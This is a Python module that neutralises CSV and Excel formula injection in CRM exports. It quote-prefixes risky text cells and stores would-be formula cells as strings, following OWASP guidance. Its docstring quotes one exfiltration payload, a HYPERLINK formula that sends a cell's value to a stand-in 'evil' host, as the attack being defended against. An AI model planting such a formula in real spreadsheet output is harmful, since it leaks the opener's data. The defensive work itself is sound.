"""Spreadsheet output that a text value cannot turn into a formula.

A CRM field such as an opportunity name is typed by anyone. Written as it is into a CSV that
someone opens in Excel, ``=HYPERLINK("http://evil/?"&A1, "click")`` or ``@SUM(1+1)`` runs as
a formula ("CSV injection" or "formula injection"). Following the OWASP guidance, every writer
of CSV or Excel output in salesworkbench goes through this module:

* CSV: :func:`neutralise_frame` (or :func:`safe_cell` for one value) prefixes a single quote to
  text cells that start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, so the
  spreadsheet shows them as text. Text that is a plain number (``-5``, ``+1.5``) is left alone,
  and numeric columns are never touched: ``-5`` stays a number.
* Excel: :func:`write_excel` writes the tables with openpyxl and then marks every cell that
  openpyxl would store as a formula as a *string* cell, so ``=1+2`` is stored and shown as the
  text ``=1+2`` (unchanged: no quote is added inside a workbook).

See https://owasp.org/www-community/attacks/CSV_Injection.
"""

from __future__ import annotations

import os
from collections.abc import Mapping

import pandas as pd

__all__ = ["FORMULA_START", "neutralise_frame", "protect_workbook", "safe_cell", "write_excel"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

_START = r"^[=+\-@\t\r]"
_NUMBER = r"^[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?$"


def safe_cell(text: object) -> object:
    """Return ``text`` made safe for a CSV cell; non-text values are returned unchanged.

    Examples
    --------
    >>> safe_cell("=1+2"), safe_cell("-5"), safe_cell(-5), safe_cell("Acme")
    ("'=1+2", '-5', -5, 'Acme')
    """
    if not isinstance(text, str) or not text.startswith(FORMULA_START):
        return text
    s = pd.Series([text])
    if s.str.match(_NUMBER).iloc[0]:
        return text
    return "'" + text


def _neutralise_series(s: pd.Series) -> pd.Series:
    if isinstance(s.dtype, pd.CategoricalDtype):
        cats = s.cat.categories
        if cats.dtype == object or pd.api.types.is_string_dtype(cats.dtype):
            return s.cat.rename_categories([safe_cell(c) for c in cats])
        return s
    if not (s.dtype == object or pd.api.types.is_string_dtype(s.dtype)):
        return s
    text = s.where(s.map(lambda v: isinstance(v, str)), None)
    risky = text.str.match(_START, na=False) & ~text.str.match(_NUMBER, na=False)
    if not risky.any():
        return s
    out = s.copy().astype(object)
    out[risky] = "'" + text[risky]
    return out


def neutralise_frame(frame: pd.DataFrame, *, index: bool = True) -> pd.DataFrame:
    """Return a copy of ``frame`` whose text cells (and header) are safe to write as CSV.

    Parameters
    ----------
    frame : DataFrame
        The table to export.
    index : bool, default True
        Also neutralise the index labels (when the index is written).

    Returns
    -------
    DataFrame
        Text cells starting with ``= + - @``, tab or CR prefixed with ``'``; numeric, date and
        boolean columns unchanged.
    """
    out = frame.copy()
    for i in range(out.shape[1]):
        out.isetitem(i, _neutralise_series(out.iloc[:, i]))
    if isinstance(out.columns, pd.MultiIndex):
        out.columns = pd.MultiIndex.from_tuples(
            [tuple(safe_cell(v) for v in t) for t in out.columns], names=out.columns.names
        )
    else:
        out.columns = [safe_cell(c) for c in out.columns]
    if index and not isinstance(out.index, pd.RangeIndex):
        if isinstance(out.index, pd.MultiIndex):
            out.index = pd.MultiIndex.from_tuples(
                [tuple(safe_cell(v) for v in t) for t in out.index], names=out.index.names
            )
        elif out.index.dtype == object or pd.api.types.is_string_dtype(out.index.dtype):
            out.index = pd.Index([safe_cell(v) for v in out.index], name=out.index.name)
    return out


def protect_workbook(workbook) -> int:
    """Mark every formula cell of an openpyxl ``workbook`` as a string cell.

    Use it on a workbook built from data (never on one with intended formulas). Returns the
    number of cells changed.
    """
    changed = 0
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
                    changed += 1
    return changed


def write_excel(
    target: str | os.PathLike | object,
    sheets: Mapping[str, pd.DataFrame],
    *,
    index: bool = False,
    autofit: bool = True,
) -> None:
    """Write ``sheets`` (name -> table) to an .xlsx workbook, text never becoming a formula.

    Parameters
    ----------
    target : path or binary file object
        Where to write (use :func:`salesworkbench._files.atomic_write` for a path).
    sheets : mapping of str to DataFrame
        One sheet per table; names are cut to Excel's 31 characters.
    index : bool, default False
        Write the index.
    autofit : bool, default True
        Widen columns to their content (up to 60 characters).
    """
    with pd.ExcelWriter(target, engine="openpyxl") as xw:
        for name, table in sheets.items():
            table.to_excel(xw, sheet_name=name[:31], index=index)
            if autofit:
                ws = xw.sheets[name[:31]]
                for col_cells in ws.columns:
                    widths = [len(str(c.value)) for c in col_cells[:200] if c.value is not None]
                    width = max(widths, default=8)
                    ws.column_dimensions[col_cells[0].column_letter].width = min(60, width + 2)
        protect_workbook(xw.book)
